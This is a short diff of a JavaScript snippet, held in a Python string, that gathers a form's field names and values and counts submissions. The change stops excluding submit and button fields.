@@ -7,7 +7,7 @@ SCRIPT = """<script>
   function told(form, name) {
     const facts = {};
     for (const field of form.querySelectorAll('input,select,textarea')) {
-      if (!field.name || ['submit', 'button'].includes(field.type) || /radio|checkbox/.test(field.type) && !field.checked) continue;
+      if (!field.name || /radio|checkbox/.test(field.type) && !field.checked) continue;
       facts[field.name] = field.value;
     }
     window.sendings = (window.sendings || 0) + 1;
